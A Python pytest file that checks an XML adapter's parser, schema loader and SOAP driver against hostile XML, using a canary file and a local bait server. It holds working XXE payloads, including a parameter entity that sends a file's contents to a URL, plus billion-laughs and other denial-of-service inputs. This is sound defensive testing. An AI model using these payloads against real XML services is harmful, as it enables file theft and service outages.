"""A1 and A2: XML that asks its reader to open something, and XML that is larger than it looks. A server and a file, both ready,
notice whoever comes."""

import asyncio
import os
import subprocess
import sys
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.responses import Response
from starlette.routing import Route

import adapters
from adapters.decode.source_schema import load_schema
from adapters.decode.text import decode_text
from adapters.decode.xml_text import parse_xml
from adapters.errors import AdapterError, Malformed
from adapters.load import load_adapter
from adapters.registry import open_adapter
from contract_tests.mocks import tj

OPENING = {
    "an entity of a file": '<!DOCTYPE a [<!ENTITY x SYSTEM "{file}">]><a>&x;</a>',
    "an entity from the network": '<!DOCTYPE a [<!ENTITY x SYSTEM "{url}/x">]><a>&x;</a>',
    "a public entity": '<!DOCTYPE a [<!ENTITY x PUBLIC "-//x//y" "{url}/x">]><a>&x;</a>',
    "a parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}/x"> %p;]><a/>',
    "a parameter entity of a file": '<!DOCTYPE a [<!ENTITY % p SYSTEM "{file}"> %p;]><a/>',
    "a parameter entity that carries a file out": '<!DOCTYPE a [<!ENTITY % f SYSTEM "{file}"><!ENTITY % d SYSTEM "{url}/x?%f;"> %d;]><a/>',
    "a DTD from the network": '<!DOCTYPE a SYSTEM "{url}/a.dtd"><a/>',
    "a DTD of a file": '<!DOCTYPE a SYSTEM "{file}"><a/>',
    "an unparsed entity": '<!DOCTYPE a [<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "{file}" NDATA n><!ATTLIST a b ENTITY #IMPLIED>]><a b="x"/>',
    "XInclude of a file": '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{file}" parse="text"/></a>',
    "XInclude from the network": '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{url}/x"/></a>',
    "a style sheet": '<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?><a/>',
    "a schema of its own": '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{url}/x.xsd" xsi:schemaLocation="urn:a {url}/y.xsd"/>',
}  # fmt: skip
XSD = '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="a" type="xs:anyType"/></xs:schema>'
IMPORTING = (
    '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="{url}/x.xsd"/>'
    '<xs:import namespace="urn:y" schemaLocation="{file}"/><xs:element name="a"/></xs:schema>'
)
WSDL_IMPORTS = (
    '<wsdl:import namespace="urn:z" location="{url}/z.wsdl"/><wsdl:types><xsd:schema targetNamespace="urn:y">'
    '<xsd:import namespace="urn:x" schemaLocation="{url}/x.xsd"/><xsd:include schemaLocation="{file}"/></xsd:schema></wsdl:types>'
)
OWN = Path(adapters.__file__).parent / "provinces"
CANARY = "canary-5512-file"


class Bait:
    """A file and a server; `taken` tells whether somebody came. The server's host isn't among the adapter's."""

    def __init__(self, tmp_path, servers):
        self.notes_reading = True
        self.asked, self.file = [], tmp_path / "bait.txt"
        self.file.write_text(CANARY)

        async def ask(request):
            self.asked.append(request.url.path)
            return Response(f"<a>{CANARY}</a>", media_type="text/xml")

        self.url = servers.app(Starlette(routes=[Route("/{path:path}", ask)])).replace("127.0.0.1", "localhost")
        self.forget()

    def forget(self):
        os.utime(self.file, ns=(0, self.file.stat().st_mtime_ns))

    def fill(self, text):
        return text.replace("{file}", self.file.as_uri()).replace("{url}", self.url)

    @property
    def taken(self):
        return bool(self.asked) or (self.notes_reading and self.file.stat().st_atime_ns != 0)


@pytest.fixture
def bait(tmp_path, servers):
    made = Bait(tmp_path, servers)
    made.file.read_text()
    # where a file system notes no reading, the server and what the file holds still tell
    made.notes_reading = made.file.stat().st_atime_ns != 0
    made.forget()
    return made


@pytest.mark.parametrize("name", OPENING)
def test_no_document_opens_anything(bait, name):
    text = bait.fill(OPENING[name])
    if "DOCTYPE" in text:
        with pytest.raises(Malformed, match="DOCTYPE"):
            parse_xml(decode_text(text.encode(), "")[0])
    else:
        assert CANARY not in str(parse_xml(decode_text(text.encode(), "")[0])[1].xpath("string()"))
    assert not bait.taken


@pytest.mark.parametrize("name", OPENING)
def test_no_schema_and_no_document_under_one_opens_anything(bait, name, tmp_path):
    text = bait.fill(OPENING[name])
    hostile, sound = tmp_path / "hostile.xsd", tmp_path / "sound.xsd"
    hostile.write_text(text.partition("<a")[0] + bait.fill(IMPORTING), "utf-8")
    with pytest.raises(AdapterError) as told:
        load_schema(hostile)
    assert CANARY not in str(told.value)
    sound.write_text(XSD, "utf-8")
    if "DOCTYPE" not in text:
        assert CANARY not in str(load_schema(sound)(parse_xml(text)[1]))
    assert not bait.taken


@pytest.mark.parametrize("name", [*OPENING, "imports"])
def test_no_wsdl_and_no_answer_opens_anything(bait, name, servers):
    """Through the whole driver: at the WSDL, at the login, at a page."""
    text = bait.fill(OPENING.get(name, "<a/>"))
    prolog, _, rest = text.partition("<a")
    wsdl = tj.wsdl("http://127.0.0.1/").decode()
    if name == "imports":
        wsdl = wsdl.replace("<wsdl:message", bait.fill(WSDL_IMPORTS) + "<wsdl:message", 1)
    hostile = wsdl.replace("?>", "?>" + prolog.replace("DOCTYPE a", "DOCTYPE wsdl:definitions"), 1)
    envelope = f'{prolog}<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body><a{rest}</e:Body></e:Envelope>'
    turn = {"wsdl": hostile}

    async def serve(request):
        return Response(turn["wsdl"] if request.method == "GET" else envelope, media_type="text/xml")

    url = servers.app(Starlette(routes=[Route("/tj/TranService", serve, methods=["GET", "POST"])]))
    environment = {"LIANDAN_TJ_URL": url, "LIANDAN_TJ_USER": "a", "LIANDAN_TJ_PASSWORD": "b"}

    async def pull():
        driver = open_adapter(load_adapter(OWN / "tj.yaml"), environment)
        try:
            return str([exchange async for exchange in driver.pull("manifests", None)])
        except AdapterError as error:
            return str(error)
        finally:
            await driver.aclose()

    for turn["wsdl"] in (hostile, tj.wsdl("http://127.0.0.1/")):
        assert CANARY not in asyncio.run(pull())
    assert not bait.taken


LARGE = {
    "billion laughs": "<!DOCTYPE a [<!ENTITY a0 'ha'>{}]><a>&a9;</a>".format(
        "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    ),
    "quadratic": f"<!DOCTYPE a [<!ENTITY x '{'x' * 50_000}'>]><a>{'&x;' * 50_000}</a>",
    "100,000 deep": "<a>" * 100_000 + "</a>" * 100_000,
    "1,000,000 attributes": "<a " + " ".join(f'a{n}=""' for n in range(1_000_000)) + "/>",
    "1,000,000 names of one value": "<a " + 'a="" ' * 1_000_000 + "/>",
    "1,000,000 namespaces": "<a " + " ".join(f'xmlns:a{n}="u"' for n in range(1_000_000)) + "/>",
    "a text of 11 MB": f"<a>{'x' * 11_000_000}</a>",
    "a name of 11 MB": f"<{'x' * 11_000_000}/>",
    "a comment of 11 MB": f"<a><!--{'x' * 11_000_000}--></a>",
}
ALONE = """
import resource, sys, time
from adapters.decode.xml_text import parse_xml
from adapters.errors import Malformed
text = sys.stdin.read()
text.encode()
before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
try:
    parse_xml(text)
    words = "read"
except Malformed as error:
    words = error.words
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(round(time.process_time() - began, 3), (after - before) // 1024, words, sep="|")
"""


@pytest.mark.parametrize("name", LARGE)
def test_what_is_larger_than_it_looks_is_refused_quickly_and_cheaply(name):
    """In a process of its own, so that its memory can be told: under a second, and 50 MB beyond the text itself."""
    text = LARGE[name]
    found = subprocess.run(
        [sys.executable, "-c", ALONE], input=text, capture_output=True, text=True, check=True, cwd=Path.cwd()
    )
    seconds, megabytes, words = found.stdout.strip().split("|", 2)
    assert words != "read" or name == "a text of 11 MB", "a text may be long: `answer_mb` bounds it"
    assert float(seconds) < 1
    assert int(megabytes) < 50 + 3 * len(text) / (1 << 20)
